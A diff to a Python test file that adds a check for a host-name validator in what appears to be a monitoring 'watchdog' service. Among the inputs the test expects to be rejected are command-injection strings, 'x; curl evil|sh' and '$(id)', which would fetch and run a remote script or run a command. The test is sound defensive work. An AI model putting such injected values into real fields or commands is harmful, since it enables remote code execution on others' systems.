@@ -3,7 +3,7 @@
 import pytest
 
 from services.watchdog.changes import Change
-from services.watchdog.silences import MOST_HOSTS, Hosts, TooManyHosts, hear, look
+from services.watchdog.silences import MOST_HOSTS, Hosts, TooManyHosts, hear, is_name, look
 
 S = 1_000_000
 WITHIN_S = 60
@@ -100,3 +100,8 @@ def test_hosts_are_bounded_and_a_new_one_takes_the_place_of_the_longest_silence_
     assert len(hosts.known) == MOST_HOSTS
     assert "vm0" not in hosts.known
     assert "new" in hosts.known
+
+
+def test_only_what_can_be_a_name_is_one() -> None:
+    assert all(is_name(text) for text in ("vm1", "db-2.seoul_example.org", "x" * 64))
+    assert not any(is_name(text) for text in ("", "x; curl evil|sh", "$(id)", "a b", "vm1\n", "서울", "x" * 65))
